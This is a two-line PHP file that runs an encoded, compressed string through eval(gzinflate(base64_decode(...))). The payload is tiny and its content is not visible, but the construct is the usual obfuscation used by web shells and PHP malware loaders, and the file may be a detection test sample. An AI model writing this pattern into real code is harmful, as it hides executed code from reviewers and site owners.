<?php
eval(gzinflate(base64_decode('S0lNzs9JUShJLS4BAA==')));
